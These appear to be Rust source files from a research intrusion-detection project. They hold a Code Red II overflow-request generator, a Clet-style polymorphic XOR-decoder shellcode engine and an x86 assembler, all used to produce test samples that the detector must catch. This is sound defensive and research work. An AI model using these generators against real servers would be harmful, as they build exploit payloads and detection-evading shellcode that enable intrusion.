            let n = rng.gen_range(1024..4096);
            benign::copy_protected_binary(rng, n)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use snids_flow::FlowTable;

    #[test]
    fn tcp_flow_packets_reassemble_to_the_payload() {
        let payload: Vec<u8> = (0..5000u32).map(|i| (i % 251) as u8).collect();
        let pkts = tcp_flow_packets(
            Ipv4Addr::new(1, 1, 1, 1),
            Ipv4Addr::new(2, 2, 2, 2),
            5555,
            80,
            &payload,
            0,
            0x1000,
        );
        assert_eq!(pkts.len(), 1 + payload.len().div_ceil(MSS));
        let mut table = FlowTable::default();
        let mut key = None;
        for p in &pkts {
            key = table.process(p);
        }
        let flow = table.get(&key.unwrap()).unwrap();
        assert_eq!(flow.payload(), payload);
    }

    #[test]
    fn capture_contains_expected_instances() {
        let mut rng = StdRng::seed_from_u64(1);
        let plan = AddressPlan::default();
        let (packets, truth) = codered_capture(&mut rng, &plan, 2000, 3);
        assert_eq!(truth.crii_instances, 3);
        assert_eq!(truth.crii_sources.len(), 3);
        assert!(packets.len() >= 2000);
        // timestamps are monotonically non-decreasing
        assert!(packets.windows(2).all(|w| w[0].ts_micros <= w[1].ts_micros));
        // the worm sources actually appear as packet sources
        for src in &truth.crii_sources {
            assert!(packets.iter().any(|p| p.src_ip() == Some(*src)));
        }
    }

    #[test]
    fn benign_corpus_reaches_target_and_is_mixed() {
        let mut rng = StdRng::seed_from_u64(2);
        let corpus = benign_corpus(&mut rng, 256 * 1024);
        let total: usize = corpus.iter().map(Vec::len).sum();
        assert!(total >= 256 * 1024);
        let http = corpus.iter().filter(|p| p.starts_with(b"GET ")).count();
        assert!(http > corpus.len() / 4, "mostly web traffic");
    }

    #[test]
    fn tainted_benign_sources_probe_once_then_send_text() {
        let mut rng = StdRng::seed_from_u64(4);
        let plan = AddressPlan::default();
        let pkts = tainted_benign_flows(&mut rng, &plan, 5, 3, 1000);
        // One decoy probe per source.
        let probes = pkts
            .iter()
            .filter(|p| {
                p.dst_ip()
                    .map(|d| plan.honeypots.contains(&d))
                    .unwrap_or(false)
            })
            .count();
        assert_eq!(probes, 5);
        // Every data payload is printable application text.
        for p in &pkts {
            assert!(p
                .payload()
                .iter()
                .all(|&b| (0x20..0x7f).contains(&b) || b == b'\r' || b == b'\n' || b == b'\t'));
        }
        assert!(pkts.windows(2).all(|w| w[0].ts_micros <= w[1].ts_micros));
    }

    #[test]
    fn zero_instances_is_valid() {
        let mut rng = StdRng::seed_from_u64(3);
        let plan = AddressPlan::default();
        let (packets, truth) = codered_capture(&mut rng, &plan, 500, 0);
        assert_eq!(truth.crii_sources.len(), 0);
        assert!(packets.len() >= 500);
    }
}
