//! A Code Red II exploit generator (paper Figure 5 and §5.3).
//!
//! Reproduces the *shape* of the worm's initial exploitation vector: a
//! well-formed `GET /default.ida?` request, a long `X` overflow filler,
//! and a `%uXXXX`-encoded binary region whose decoded instructions
//! repeatedly reference the msvcrt.dll thunk window at `0x7801xxxx`
//! (`%ucbd3%u7801` in the original capture).

use crate::asm::{Asm, R};
use rand::Rng;

/// The msvcrt call-gate address the original worm used (0x7801CBD3).
pub const CRII_GATE: u32 = 0x7801_cbd3;

/// The decoded binary vector: sled + repeated transfers through the
/// `0x7801xxxx` window.
pub fn exploit_vector<G: Rng>(rng: &mut G) -> Vec<u8> {
    let mut a = Asm::new();
    // %u9090-style sled
    for _ in 0..rng.gen_range(4..10) {
        a.nop();
    }
    // push the gate address, stage it in a register, call through it —
    // referencing the window at least twice as the capture shows.
    a.push_imm32(CRII_GATE);
    a.mov_imm(R::Esi, CRII_GATE + rng.gen_range(0..0x100));
    a.raw(&[0xff, 0xd6]); // call esi
                          // the body then stages its heap fixups via the same window
    a.mov_imm(R::Ebx, 0x0040_0000 + rng.gen_range(0..0x1000));
    a.push_imm32(CRII_GATE - rng.gen_range(0..0x80));
    a.raw(&[0xc3]); // ret into the pushed gate
    a.finish()
}

/// Percent-u encode a byte buffer (pads to even length with 0x90).
pub fn unicode_encode(data: &[u8]) -> String {
    let mut s = String::with_capacity(data.len() * 3);
    let mut it = data.chunks_exact(2);
    for w in &mut it {
        s.push_str(&format!("%u{:02x}{:02x}", w[1], w[0]));
    }
    if let [last] = it.remainder() {
        s.push_str(&format!("%u90{last:02x}"));
    }
    s
}

/// Build the full Code Red II HTTP request.
pub fn request<G: Rng>(rng: &mut G) -> Vec<u8> {
    let mut req = b"GET /default.ida?".to_vec();
    req.extend_from_slice(&vec![b'X'; 224]);
    let vector = exploit_vector(rng);
    req.extend_from_slice(unicode_encode(&vector).as_bytes());
    req.extend_from_slice(b"%u00=a HTTP/1.0\r\n");
    req.extend_from_slice(b"Content-type: text/xml\r\nHost: www\r\nAccept: */*\r\n");
    req.extend_from_slice(b"Content-length: 3379\r\n\r\n");
    req
}

/// The static signature a Snort-style ruleset would use for Code Red
/// (content match on the request line).
pub const STATIC_SIGNATURE: &[u8] = b"/default.ida?XXXXXXXX";

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use snids_extract::BinaryExtractor;
    use snids_semantic::Analyzer;

    #[test]
    fn unicode_encoding_round_trips_through_extractor_decoding() {
        let data = [0x90u8, 0x90, 0x58, 0x68, 0xd3, 0xcb, 0x01, 0x78];
        let enc = unicode_encode(&data);
        assert_eq!(enc, "%u9090%u6858%ucbd3%u7801");
        let region = snids_extract::unicode::decode_region(enc.as_bytes(), 0).unwrap();
        assert_eq!(region.data, data);
    }

    #[test]
    fn odd_length_pads() {
        let enc = unicode_encode(&[0xaa, 0xbb, 0xcc]);
        assert_eq!(enc, "%ubbaa%u90cc");
    }

    #[test]
    fn request_is_detected_end_to_end() {
        for seed in 0..10u64 {
            let mut rng = StdRng::seed_from_u64(seed);
            let req = request(&mut rng);
            let frames = BinaryExtractor::default().extract(&req);
            assert_eq!(frames.len(), 1, "seed {seed}: {frames:?}");
            let ms = Analyzer::default().analyze(&frames[0].data);
            assert!(
                ms.iter().any(|m| m.template == "code-red-ii"),
                "seed {seed}: CRII template missed: {ms:?}"
            );
        }
    }

    #[test]
    fn vector_references_the_gate_window_twice() {
        let mut rng = StdRng::seed_from_u64(3);
        let v = exploit_vector(&mut rng);
        let hits = v
            .windows(2)
            .filter(|w| w == &[0x01, 0x78]) // LE tail of 0x7801xxxx
            .count();
        assert!(hits >= 2, "only {hits} window references");
    }

    #[test]
    fn static_signature_matches_the_request() {
        let mut rng = StdRng::seed_from_u64(4);
        let req = request(&mut rng);
        assert!(req
            .windows(STATIC_SIGNATURE.len())
            .any(|w| w == STATIC_SIGNATURE));
    }
}
