//! A Clet-like polymorphic engine.
//!
//! Clet (Phrack 61) obscures an XOR-based decryption routine and pads the
//! packet so its byte-frequency *spectrum* approximates normal traffic,
//! defeating data-mining / anomaly IDSes. Its decoder is still an XOR
//! loop, which is why the paper's XOR template caught all 100 instances
//! (Table 2).

use crate::asm::{Asm, R};
use rand::Rng;

/// The engine.
#[derive(Debug, Clone)]
pub struct Clet {
    /// Spectrum padding length as a fraction of the payload.
    pub padding_ratio: f64,
    /// Sled instruction count range.
    pub sled_range: (usize, usize),
}

impl Default for Clet {
    fn default() -> Self {
        Clet {
            padding_ratio: 0.4,
            sled_range: (8, 24),
        }
    }
}

/// English-like byte distribution for the spectrum padding.
const SPECTRUM: &[u8] = b"etaoinshrdlucmfwypvbgkjqxz ETAOIN.,;:!?";

impl Clet {
    /// Generate one instance: sled + xor decoder + encoded payload +
    /// spectrum padding.
    pub fn generate<G: Rng>(&self, rng: &mut G, inner: &[u8]) -> Vec<u8> {
        let key: u8 = rng.gen_range(1..=255);
        // ECX is reserved for the loop counter.
        let ptrs: Vec<R> = R::POINTERS.into_iter().filter(|r| *r != R::Ecx).collect();
        let ptr = ptrs[rng.gen_range(0..ptrs.len())];
        let protect = [ptr, R::Ecx];

        let mut a = Asm::new();
        let sled_n = rng.gen_range(self.sled_range.0..=self.sled_range.1);
        a.sled(rng, sled_n, &protect);
        a.mov_imm(ptr, 0xbfff_d000 + rng.gen_range(0..0x2000));
        a.mov_imm(R::Ecx, inner.len() as u32);
        // Clet interleaves burn-in instructions that look computational.
        for _ in 0..rng.gen_range(0..3) {
            a.nop_like(rng, &protect);
        }
        let body = a.here();
        a.xor_mem_imm8(ptr, key);
        if rng.gen_bool(0.5) {
            a.inc(ptr);
        } else {
            a.add_imm8(ptr, 1);
        }
        a.loop_to(body);

        let mut out = a.finish();
        out.extend(inner.iter().map(|b| b ^ key));
        // Spectrum normalization: English-distributed padding.
        let pad = (inner.len() as f64 * self.padding_ratio) as usize;
        for _ in 0..pad {
            out.push(SPECTRUM[rng.gen_range(0..SPECTRUM.len())]);
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shellcode;
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use snids_semantic::{templates, Analyzer};

    #[test]
    fn all_instances_match_the_xor_template() {
        let engine = Clet::default();
        let analyzer = Analyzer::new(templates::xor_only_templates());
        let mut seed_rng = StdRng::seed_from_u64(0);
        let inner = shellcode::execve_variant(&mut seed_rng, 1);
        for seed in 0..100u64 {
            let mut rng = StdRng::seed_from_u64(seed);
            let bytes = engine.generate(&mut rng, &inner);
            assert!(analyzer.detects(&bytes), "clet instance {seed} missed");
        }
    }

    #[test]
    fn padding_raises_printable_ratio() {
        let engine = Clet {
            padding_ratio: 1.0,
            ..Clet::default()
        };
        let mut rng = StdRng::seed_from_u64(5);
        let inner = shellcode::execve_variant(&mut rng, 0);
        let with_pad = engine.generate(&mut rng, &inner);
        let no_pad = Clet {
            padding_ratio: 0.0,
            ..Clet::default()
        }
        .generate(&mut rng, &inner);
        let ratio = |b: &[u8]| {
            b.iter().filter(|&&x| (0x20..0x7f).contains(&x)).count() as f64 / b.len() as f64
        };
        assert!(ratio(&with_pad) > ratio(&no_pad));
    }

    #[test]
    fn instances_differ() {
        let engine = Clet::default();
        let mut rng = StdRng::seed_from_u64(9);
        let inner = shellcode::execve_variant(&mut rng, 0);
        let a = engine.generate(&mut rng, &inner);
        let b = engine.generate(&mut rng, &inner);
        assert_ne!(a, b);
    }
}
