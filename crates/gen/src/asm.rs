//! A tiny x86 assembler — just enough to build the corpus.
//!
//! Every emitter is verified against the `snids-x86` decoder in the tests
//! (encode → decode must round-trip), so the generators and the analyzer
//! agree on what the bytes mean.

use rand::Rng;

/// General-purpose register numbers in encoding order.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum R {
    Eax = 0,
    Ecx = 1,
    Edx = 2,
    Ebx = 3,
    Esp = 4,
    Ebp = 5,
    Esi = 6,
    Edi = 7,
}

impl R {
    /// The 3-bit encoding.
    pub fn idx(self) -> u8 {
        self as u8
    }

    /// The data registers usable as a decoder pointer (`[r]` without SIB
    /// or mandatory displacement — i.e. not ESP/EBP).
    pub const POINTERS: [R; 6] = [R::Eax, R::Ecx, R::Edx, R::Ebx, R::Esi, R::Edi];

    /// Registers usable as a decoder key/work register.
    pub const WORK: [R; 5] = [R::Eax, R::Ecx, R::Edx, R::Ebx, R::Esi];
}

/// An append-only code buffer with label-free relative branch helpers.
#[derive(Debug, Default, Clone)]
pub struct Asm {
    bytes: Vec<u8>,
}

impl Asm {
    /// Empty buffer.
    pub fn new() -> Self {
        Asm::default()
    }

    /// Current offset (for branch targets).
    pub fn here(&self) -> usize {
        self.bytes.len()
    }

    /// Finish and return the bytes.
    pub fn finish(self) -> Vec<u8> {
        self.bytes
    }

    /// Append raw bytes.
    pub fn raw(&mut self, bytes: &[u8]) -> &mut Self {
        self.bytes.extend_from_slice(bytes);
        self
    }

    /// `nop`.
    pub fn nop(&mut self) -> &mut Self {
        self.raw(&[0x90])
    }

    /// `mov r32, imm32`.
    pub fn mov_imm(&mut self, r: R, v: u32) -> &mut Self {
        self.bytes.push(0xb8 + r.idx());
        self.bytes.extend_from_slice(&v.to_le_bytes());
        self
    }

    /// `mov r8, imm8` (low byte registers only).
    pub fn mov_imm8(&mut self, r: R, v: u8) -> &mut Self {
        debug_assert!(r.idx() < 4, "low-byte form only");
        self.raw(&[0xb0 + r.idx(), v])
    }

    /// `mov dst, src` (r32, r32).
    pub fn mov_rr(&mut self, dst: R, src: R) -> &mut Self {
        self.raw(&[0x89, 0xc0 | (src.idx() << 3) | dst.idx()])
    }

    /// `mov r8, [ptr]` (byte load; low-byte work register).
    pub fn load8(&mut self, work: R, ptr: R) -> &mut Self {
        debug_assert!(work.idx() < 4);
        debug_assert!(ptr != R::Esp && ptr != R::Ebp);
        self.raw(&[0x8a, (work.idx() << 3) | ptr.idx()])
    }

    /// `mov [ptr], r8` (byte store).
    pub fn store8(&mut self, ptr: R, work: R) -> &mut Self {
        debug_assert!(work.idx() < 4);
        debug_assert!(ptr != R::Esp && ptr != R::Ebp);
        self.raw(&[0x88, (work.idx() << 3) | ptr.idx()])
    }

    /// `xor byte [ptr], imm8`.
    pub fn xor_mem_imm8(&mut self, ptr: R, key: u8) -> &mut Self {
        debug_assert!(ptr != R::Esp && ptr != R::Ebp);
        self.raw(&[0x80, 0x30 | ptr.idx(), key])
    }

    /// `xor byte [ptr], r8l` (key held in the low byte of `key`).
    pub fn xor_mem_r8(&mut self, ptr: R, key: R) -> &mut Self {
        debug_assert!(key.idx() < 4);
        debug_assert!(ptr != R::Esp && ptr != R::Ebp);
        self.raw(&[0x30, (key.idx() << 3) | ptr.idx()])
    }

    /// `add byte [ptr], imm8` (additive decoder).
    pub fn add_mem_imm8(&mut self, ptr: R, v: u8) -> &mut Self {
        self.raw(&[0x80, ptr.idx(), v])
    }

    /// `xor r32, r32` (same register zeroes it).
    pub fn xor_rr(&mut self, dst: R, src: R) -> &mut Self {
        self.raw(&[0x31, 0xc0 | (src.idx() << 3) | dst.idx()])
    }

    /// `add r32, imm8` (sign-extended).
    pub fn add_imm8(&mut self, r: R, v: i8) -> &mut Self {
        self.raw(&[0x83, 0xc0 | r.idx(), v as u8])
    }

    /// `add r32, imm32`.
    pub fn add_imm32(&mut self, r: R, v: u32) -> &mut Self {
        self.bytes.extend_from_slice(&[0x81, 0xc0 | r.idx()]);
        self.bytes.extend_from_slice(&v.to_le_bytes());
        self
    }

    /// `add r8, imm8` (low-byte form).
    pub fn add_r8_imm8(&mut self, r: R, v: u8) -> &mut Self {
        debug_assert!(r.idx() < 4);
        self.raw(&[0x80, 0xc0 | r.idx(), v])
    }

    /// `or r8, imm8`.
    pub fn or_r8_imm8(&mut self, r: R, v: u8) -> &mut Self {
        debug_assert!(r.idx() < 4);
        self.raw(&[0x80, 0xc8 | r.idx(), v])
    }

    /// `and r8, imm8`.
    pub fn and_r8_imm8(&mut self, r: R, v: u8) -> &mut Self {
        debug_assert!(r.idx() < 4);
        self.raw(&[0x80, 0xe0 | r.idx(), v])
    }

    /// `xor r8, imm8`.
    pub fn xor_r8_imm8(&mut self, r: R, v: u8) -> &mut Self {
        debug_assert!(r.idx() < 4);
        self.raw(&[0x80, 0xf0 | r.idx(), v])
    }

    /// `not r8`.
    pub fn not_r8(&mut self, r: R) -> &mut Self {
        debug_assert!(r.idx() < 4);
        self.raw(&[0xf6, 0xd0 | r.idx()])
    }

    /// `inc r32`.
    pub fn inc(&mut self, r: R) -> &mut Self {
        self.raw(&[0x40 + r.idx()])
    }

    /// `dec r32`.
    pub fn dec(&mut self, r: R) -> &mut Self {
        self.raw(&[0x48 + r.idx()])
    }

    /// `lea r, [r+disp8]` — pointer advance in disguise.
    pub fn lea_advance(&mut self, r: R, disp: i8) -> &mut Self {
        debug_assert!(r != R::Esp);
        self.raw(&[0x8d, 0x40 | (r.idx() << 3) | r.idx(), disp as u8])
    }

    /// `sub r32, imm8`.
    pub fn sub_imm8(&mut self, r: R, v: i8) -> &mut Self {
        self.raw(&[0x83, 0xe8 | r.idx(), v as u8])
    }

    /// `push imm32`.
    pub fn push_imm32(&mut self, v: u32) -> &mut Self {
        self.bytes.push(0x68);
        self.bytes.extend_from_slice(&v.to_le_bytes());
        self
    }

    /// `push imm8` (sign-extended).
    pub fn push_imm8(&mut self, v: i8) -> &mut Self {
        self.raw(&[0x6a, v as u8])
    }

    /// `push r32`.
    pub fn push(&mut self, r: R) -> &mut Self {
        self.raw(&[0x50 + r.idx()])
    }

    /// `pop r32`.
    pub fn pop(&mut self, r: R) -> &mut Self {
        self.raw(&[0x58 + r.idx()])
    }

    /// `int imm8`.
    pub fn int(&mut self, n: u8) -> &mut Self {
        self.raw(&[0xcd, n])
    }

    /// `loop target` (rel8 computed from the current position).
    pub fn loop_to(&mut self, target: usize) -> &mut Self {
        let rel = target as i64 - (self.here() as i64 + 2);
        debug_assert!((-128..=127).contains(&rel), "loop target out of range");
        self.raw(&[0xe2, rel as u8])
    }

    /// `jnz target` (rel8).
    pub fn jnz_to(&mut self, target: usize) -> &mut Self {
        let rel = target as i64 - (self.here() as i64 + 2);
        debug_assert!((-128..=127).contains(&rel), "jnz target out of range");
        self.raw(&[0x75, rel as u8])
    }

    /// `jmp target` (rel8).
    pub fn jmp_to(&mut self, target: usize) -> &mut Self {
        let rel = target as i64 - (self.here() as i64 + 2);
        debug_assert!((-128..=127).contains(&rel), "jmp target out of range");
        self.raw(&[0xeb, rel as u8])
    }

    /// Placeholder `jmp rel8` whose displacement is patched later.
    pub fn jmp_fwd(&mut self) -> usize {
        self.raw(&[0xeb, 0x00]);
        self.here() - 1
    }

    /// Patch a forward jump recorded by [`Asm::jmp_fwd`] to land `here`.
    pub fn patch_fwd(&mut self, fixup: usize) {
        let rel = self.here() as i64 - (fixup as i64 + 1);
        debug_assert!((-128..=127).contains(&rel));
        self.bytes[fixup] = rel as u8;
    }

    /// `cmp r32, r32`.
    pub fn cmp_rr(&mut self, a: R, b: R) -> &mut Self {
        self.raw(&[0x39, 0xc0 | (b.idx() << 3) | a.idx()])
    }

    /// `cdq` (sign-extend EAX into EDX — cheap EDX zeroing after xor eax).
    pub fn cdq(&mut self) -> &mut Self {
        self.raw(&[0x99])
    }

    /// One random NOP-like single-byte instruction that avoids touching the
    /// registers in `protect` (sled material and junk padding).
    pub fn nop_like<G: Rng>(&mut self, rng: &mut G, protect: &[R]) -> &mut Self {
        // flag-only one-byte ops: touch no GPR at all
        const FLAG_SAFE: [u8; 7] = [0x90, 0xf8, 0xf9, 0xf5, 0xfc, 0x9b, 0x9e];
        // BCD adjusters and SALC write AL — only usable when EAX is free
        const EAX_WRITERS: [u8; 5] = [0x27, 0x2f, 0x37, 0x3f, 0xd6];
        let mut pool: Vec<u8> = FLAG_SAFE.to_vec();
        if !protect.contains(&R::Eax) {
            pool.extend_from_slice(&EAX_WRITERS);
        }
        // plus inc/dec of unprotected, non-ESP/EBP registers
        for r in [R::Eax, R::Ecx, R::Edx, R::Ebx, R::Esi, R::Edi] {
            if !protect.contains(&r) {
                pool.push(0x40 + r.idx());
                pool.push(0x48 + r.idx());
            }
        }
        let b = pool[rng.gen_range(0..pool.len())];
        self.raw(&[b])
    }

    /// `n` NOP-like instructions (a polymorphic sled).
    pub fn sled<G: Rng>(&mut self, rng: &mut G, n: usize, protect: &[R]) -> &mut Self {
        for _ in 0..n {
            self.nop_like(rng, protect);
        }
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use snids_x86::{decode, linear_sweep, Mnemonic};

    #[test]
    fn emitters_roundtrip_through_the_decoder() {
        let mut a = Asm::new();
        a.mov_imm(R::Ebx, 0x31)
            .add_imm8(R::Ebx, 0x64)
            .xor_mem_r8(R::Eax, R::Ebx)
            .inc(R::Eax)
            .loop_to(0);
        let code = a.finish();
        let insns = linear_sweep(&code);
        let texts: Vec<String> = insns.iter().map(|i| i.to_string()).collect();
        assert_eq!(texts[0], "mov ebx, 0x31");
        assert_eq!(texts[1], "add ebx, 0x64");
        assert_eq!(texts[2], "xor byte ptr [eax], bl");
        assert_eq!(texts[3], "inc eax");
        assert!(texts[4].starts_with("loop"));
        assert_eq!(insns.last().unwrap().branch_target(), Some(0));
    }

    #[test]
    fn byte_ops_roundtrip() {
        let mut a = Asm::new();
        a.mov_imm8(R::Ebx, 0x42)
            .or_r8_imm8(R::Ebx, 0xa0)
            .and_r8_imm8(R::Ebx, 0xcf)
            .xor_r8_imm8(R::Ebx, 0x55)
            .not_r8(R::Ebx)
            .add_r8_imm8(R::Ebx, 7);
        let code = a.finish();
        let texts: Vec<String> = linear_sweep(&code).iter().map(|i| i.to_string()).collect();
        assert_eq!(
            texts,
            vec![
                "mov bl, 0x42",
                "or bl, 0xa0",
                "and bl, 0xcf",
                "xor bl, 0x55",
                "not bl",
                "add bl, 0x7",
            ]
        );
    }

    #[test]
    fn load_store_roundtrip() {
        let mut a = Asm::new();
        a.load8(R::Ebx, R::Esi).store8(R::Esi, R::Ebx);
        let code = a.finish();
        let texts: Vec<String> = linear_sweep(&code).iter().map(|i| i.to_string()).collect();
        assert_eq!(
            texts,
            vec!["mov bl, byte ptr [esi]", "mov byte ptr [esi], bl"]
        );
    }

    #[test]
    fn stack_and_syscall_roundtrip() {
        let mut a = Asm::new();
        a.push_imm32(0x6873_2f2f)
            .push_imm8(0xb)
            .pop(R::Eax)
            .push(R::Ebx)
            .int(0x80);
        let texts: Vec<String> = linear_sweep(&a.finish())
            .iter()
            .map(|i| i.to_string())
            .collect();
        assert_eq!(
            texts,
            vec![
                "push 0x68732f2f",
                "push 0xb",
                "pop eax",
                "push ebx",
                "int 0x80"
            ]
        );
    }

    #[test]
    fn forward_jump_patching() {
        let mut a = Asm::new();
        let fix = a.jmp_fwd();
        a.nop().nop().nop();
        a.patch_fwd(fix);
        a.inc(R::Eax);
        let code = a.finish();
        let j = decode(&code, 0);
        assert_eq!(j.mnemonic, Mnemonic::Jmp);
        assert_eq!(j.branch_target(), Some(5));
        assert_eq!(decode(&code, 5).mnemonic, Mnemonic::Inc);
    }

    #[test]
    fn sled_is_all_nop_like_and_respects_protection() {
        let mut rng = StdRng::seed_from_u64(7);
        let mut a = Asm::new();
        a.sled(&mut rng, 64, &[R::Esi, R::Ecx]);
        let code = a.finish();
        let insns = linear_sweep(&code);
        assert_eq!(insns.len(), 64);
        for i in &insns {
            assert!(snids_x86::semantics::is_nop_like(i), "{i}");
            let w = snids_x86::semantics::writes(i);
            assert!(!w.contains(snids_x86::Location::Gpr(snids_x86::Gpr::Esi)));
            assert!(!w.contains(snids_x86::Location::Gpr(snids_x86::Gpr::Ecx)));
        }
    }

    #[test]
    fn lea_and_sub_advances_decode() {
        let mut a = Asm::new();
        a.lea_advance(R::Esi, 1).sub_imm8(R::Edi, -4);
        let texts: Vec<String> = linear_sweep(&a.finish())
            .iter()
            .map(|i| i.to_string())
            .collect();
        assert_eq!(texts[0], "lea esi, dword ptr [esi+0x1]");
        assert_eq!(texts[1], "sub edi, 0xfffffffc");
    }
}
