#![deny(missing_docs)]
#![forbid(unsafe_code)]

//! # snids-prefilter — the vectorized pre-filter fast path
//!
//! The semantic pipeline (extraction → x86 decode → IR lift → template
//! match) costs ~100× a header check, yet most packets that survive
//! classification are benign background traffic that will never produce
//! an alert. This crate is the gate that rejects that traffic for ~free:
//! a **three-lane, batch-oriented fast path** that runs between
//! classification and the flow table and decides, per packet, *escalate*
//! (hand to reassembly + deep analysis) or *reject* (count it and move
//! on).
//!
//! The three lanes, cheapest first:
//!
//! 1. **Header lane** ([`HeaderLane`]) — 5-tuple/port/flag predicates
//!    compiled into flat per-field lookup tables; matching is four table
//!    loads and three `AND`s, branch-free, batched over
//!    structure-of-arrays chunks ([`HeaderBatch`]). Rules name
//!    always-interesting destinations (honeypot decoys, dark ranges).
//! 2. **Signature lane** — Aho-Corasick payload screening reusing
//!    [`snids_sig::RuleSet`]: one pass over the payload against every
//!    pattern simultaneously.
//! 3. **N-gram lane** ([`NgramScorer`]) — a position-aware byte-class
//!    score (sled-opcode weighting in the leading window, period-4
//!    retaddr repeats in the tail) gating sled/retaddr extraction.
//!
//! Escalation is deliberately asymmetric: any single lane firing
//! escalates, and escalation is **sticky per source** — once a source
//! has looked interesting, its later segments bypass the gate so
//! multi-segment exploits can never hide their tail. Control packets
//! (empty payloads: SYN/ACK/FIN handshakes) always escalate, because
//! flow bookkeeping is cheap and the flow table needs them. The failure
//! mode is therefore biased: a wrong *escalate* costs nanoseconds, a
//! wrong *reject* would cost a detection — and the e2e suite pins that
//! the gate changes nothing about the alert stream on the attack corpus.
//!
//! ```
//! use snids_prefilter::{Decision, Lane, Prefilter, PrefilterConfig};
//! use snids_packet::PacketBuilder;
//! use std::net::Ipv4Addr;
//!
//! let mut pf = Prefilter::new(PrefilterConfig::default());
//! let b = PacketBuilder::new(Ipv4Addr::new(10, 0, 0, 1), Ipv4Addr::new(10, 0, 0, 2));
//! // An encoded payload no static signature knows: the n-gram lane's job.
//! let encoded: Vec<u8> = [0xde, 0xad, 0xbe, 0xef].repeat(32);
//! let pkt = b.tcp(40000, 80, 1, 0, snids_packet::TcpFlags::ACK, &encoded).unwrap();
//! assert_eq!(pf.decide(&pkt, false), Decision::Escalate(Lane::Ngram));
//! let text = b.tcp(40001, 80, 1, 0, snids_packet::TcpFlags::ACK, b"GET / HTTP/1.0\r\n\r\n");
//! // Same source: sticky escalation, the exploit source can't hide.
//! assert_eq!(pf.decide(&text.unwrap(), false), Decision::Escalate(Lane::Sticky));
//! ```

mod batch;
pub mod header;
pub mod ngram;

pub use batch::{HeaderBatch, BATCH_CHUNK};
pub use header::{HeaderFields, HeaderLane, HeaderRule, MAX_RULES};
pub use ngram::{NgramConfig, NgramScorer};

use snids_packet::Packet;
use snids_sig::RuleSet;
use std::collections::{BTreeMap, HashSet};
use std::net::Ipv4Addr;

/// Which mechanism escalated a packet (diagnostics + counters).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lane {
    /// Payload-free control packet (handshake/teardown): the flow table
    /// needs it and analysing it costs nothing.
    Control,
    /// The source (or its flow) already escalated earlier — later
    /// segments ride through so split payloads stay whole.
    Sticky,
    /// A compiled header rule matched the 5-tuple.
    Header,
    /// A signature pattern matched the payload.
    Signature,
    /// The position-aware n-gram score cleared the threshold.
    Ngram,
}

impl Lane {
    /// Stable lower-case name for counters and reports.
    pub fn name(self) -> &'static str {
        match self {
            Lane::Control => "control",
            Lane::Sticky => "sticky",
            Lane::Header => "header",
            Lane::Signature => "signature",
            Lane::Ngram => "ngram",
        }
    }
}

/// The gate's verdict for one packet.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Decision {
    /// Hand the packet to the flow table and deep pipeline.
    Escalate(Lane),
    /// Benign-looking: count it and skip deep analysis.
    Reject,
}

impl Decision {
    /// Is this an escalation?
    pub fn is_escalate(self) -> bool {
        matches!(self, Decision::Escalate(_))
    }
}

/// Pre-filter configuration: the rule inputs for all three lanes.
#[derive(Debug, Clone, Default)]
pub struct PrefilterConfig {
    /// Header-lane rules ([`MAX_RULES`] cap applies).
    pub header_rules: Vec<HeaderRule>,
    /// N-gram scorer parameters.
    pub ngram: NgramConfig,
}

impl PrefilterConfig {
    /// The deployment-shaped rule set: all traffic to honeypot decoys
    /// and into dark address ranges escalates on headers alone (the
    /// paper's premise — nothing legitimate goes there). Service ports
    /// are deliberately *not* header-escalated; payload lanes own that.
    pub fn deployment_rules(honeypots: &[Ipv4Addr], dark_nets: &[(Ipv4Addr, u8)]) -> Self {
        let mut header_rules = Vec::new();
        for h in honeypots {
            header_rules.push(HeaderRule::to_host("honeypot-decoy", *h));
        }
        for (net, prefix) in dark_nets {
            header_rules.push(HeaderRule::to_net("dark-range", *net, *prefix));
        }
        PrefilterConfig {
            header_rules,
            ngram: NgramConfig::default(),
        }
    }
}

/// Per-lane escalation counters plus the reject total.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct LaneCounters {
    /// Empty-payload control escalations.
    pub control: u64,
    /// Sticky-source / buffered-flow escalations.
    pub sticky: u64,
    /// Header-lane escalations.
    pub header: u64,
    /// Signature-lane escalations.
    pub signature: u64,
    /// N-gram-lane escalations.
    pub ngram: u64,
    /// Rejections.
    pub rejected: u64,
}

impl LaneCounters {
    /// Escalations across all lanes.
    pub fn escalated(&self) -> u64 {
        self.control + self.sticky + self.header + self.signature + self.ngram
    }

    /// All decisions made.
    pub fn total(&self) -> u64 {
        self.escalated() + self.rejected
    }
}

/// The assembled three-lane gate. One instance per [`Nids`] pipeline;
/// the sticky-source set is the only mutable state.
///
/// [`Nids`]: https://docs.rs/snids-core
pub struct Prefilter {
    header: HeaderLane,
    header_truncated: bool,
    sigs: RuleSet,
    ngram: NgramScorer,
    sticky: HashSet<Ipv4Addr>,
    counters: LaneCounters,
    rule_hits: BTreeMap<(&'static str, &'static str), u64>,
}

impl Prefilter {
    /// Build the gate: compile header rules, load the default signature
    /// rule set, and bake the n-gram weight tables.
    pub fn new(config: PrefilterConfig) -> Prefilter {
        let header = HeaderLane::compile(&config.header_rules);
        let header_truncated = header.truncated(config.header_rules.len());
        Prefilter {
            header,
            header_truncated,
            sigs: snids_sig::default_ruleset(),
            ngram: NgramScorer::new(config.ngram),
            sticky: HashSet::new(),
            counters: LaneCounters::default(),
            rule_hits: BTreeMap::new(),
        }
    }

    /// The compiled header lane (for batched benchmarking).
    pub fn header_lane(&self) -> &HeaderLane {
        &self.header
    }

    /// The n-gram scorer.
    pub fn ngram(&self) -> &NgramScorer {
        &self.ngram
    }

    /// True when more than [`MAX_RULES`] header rules were supplied.
    pub fn header_truncated(&self) -> bool {
        self.header_truncated
    }

    /// Decision counters so far.
    pub fn counters(&self) -> LaneCounters {
        self.counters
    }

    /// Number of sources currently pinned sticky.
